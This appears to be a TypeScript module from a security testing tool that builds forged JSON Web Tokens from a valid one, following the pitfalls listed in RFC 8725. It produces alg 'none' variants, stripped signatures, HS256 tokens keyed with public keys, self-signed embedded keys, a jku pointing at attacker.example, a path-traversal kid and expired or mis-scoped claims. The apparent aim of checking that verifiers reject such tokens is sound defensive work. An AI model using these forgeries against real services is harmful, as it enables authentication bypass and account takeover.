// Tokens that must not be taken (RFC 8725): made from a good one, with the issuer's key where there is `sign`, else without.
import { createHmac, generateKeyPairSync, sign as signWith } from 'node:crypto'
import type { AttackCredentials } from './types.ts'

/** A bad token, and what is bad about it. */
export interface BadToken { readonly title: string; readonly token: string }

type Part = Record<string, unknown>

const DAY_SECONDS = 86_400
const encoded = (part: Part): string => Buffer.from(JSON.stringify(part)).toString('base64url')
const decoded = (part: string): Part => JSON.parse(Buffer.from(part, 'base64url').toString()) as Part

/** Whether the text has the form of a signed JWT. */
export function isJwt (text: string): boolean {
  const [header = '', claims = '', signature] = text.split('.')
  try {
    return signature !== undefined && typeof decoded(header)['alg'] === 'string' && typeof decoded(claims) === 'object'
  } catch {
    return false
  }
}

function hmac (header: Part, claims: Part, key: string): string {
  const input = `${encoded(header)}.${encoded(claims)}`
  return `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`
}

/** Signed by a key that came with the token. */
function selfSigned (header: Part, claims: Part, members: (jwk: Part) => Part): string {
  const { publicKey, privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const jwk = publicKey.export({ format: 'jwk' }) as Part
  const input = `${encoded({ ...header, alg: 'ES256', ...members(jwk) })}.${encoded(claims)}`
  return `${input}.${signWith('sha256', Buffer.from(input), { key: privateKey, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`
}

/** Everything that can be done with a good token; the issuer's key is needed for the claims. */
export async function badTokens (token: string, { sign, publicKeys = [] }: Pick<AttackCredentials, 'sign' | 'publicKeys'>): Promise<BadToken[]> {
  const [head = '', body = '', signature = ''] = token.split('.')
  const header = decoded(head)
  const claims = decoded(body)
  const rotated = signature.slice(1) + signature.slice(0, 1)
  const unsigned = [
    ...['none', 'None', 'NONE', 'nOnE', ''].map((alg) => ({ title: `alg "${alg}" and no signature`, token: `${encoded({ ...header, alg })}.${body}.` })),
    { title: 'alg none with the signature', token: `${encoded({ ...header, alg: 'none' })}.${body}.${signature}` },
    { title: 'no signature', token: `${head}.${body}.` },
    { title: 'two parts', token: `${head}.${body}` },
    { title: 'another signature', token: `${head}.${body}.${rotated}` },
    { title: 'claims of somebody else', token: `${head}.${encoded({ ...claims, sub: 'somebody-else' })}.${signature}` },
    { title: 'HS256 with an empty key', token: hmac({ ...header, alg: 'HS256' }, claims, '') },
    ...publicKeys.map((key, index) => ({ title: `HS256 with public key ${String(index + 1)} as the secret`, token: hmac({ ...header, alg: 'HS256' }, claims, key) })),
    { title: 'a key of its own in jwk', token: selfSigned(header, claims, (jwk) => ({ jwk })) },
    { title: 'a key of its own behind jku', token: selfSigned(header, claims, () => ({ jku: 'https://attacker.example/jwks.json' })) },
    { title: 'a key of its own under the known kid', token: selfSigned(header, claims, () => ({})) },
    { title: 'a kid that is a path', token: `${encoded({ ...header, kid: '../../../../dev/null' })}.${body}.${signature}` }
  ]
  return sign === undefined ? unsigned : [...unsigned, ...await signedTokens(header, claims, sign)]
}

async function signedTokens (header: Part, claims: Part, sign: NonNullable<AttackCredentials['sign']>): Promise<BadToken[]> {
  const now = Math.floor(Date.now() / 1000)
  const other = 'https://attacker.example'
  const without = (part: Part, name: string): Part => Object.fromEntries(Object.entries(part).filter(([key]) => key !== name))
  const cases: [string, Part, Part][] = [
    ['expired', header, { ...claims, iat: now - 2 * DAY_SECONDS, exp: now - DAY_SECONDS }],
    ['without exp', header, without(claims, 'exp')],
    ['not yet valid', header, { ...claims, nbf: now + DAY_SECONDS }],
    ['another issuer', header, { ...claims, iss: other }],
    ['without issuer', header, without(claims, 'iss')],
    ['another audience', header, { ...claims, aud: other }],
    ['without audience', header, without(claims, 'aud')],
    ['another typ', { ...header, typ: 'dpop+jwt' }, claims],
    ['a critical extension', { ...header, crit: ['exp'], exp: 1 }, claims]
  ]
  return await Promise.all(cases.map(async ([title, changedHeader, changedClaims]) => ({ title, token: await sign({ header: changedHeader, claims: changedClaims }) })))
}
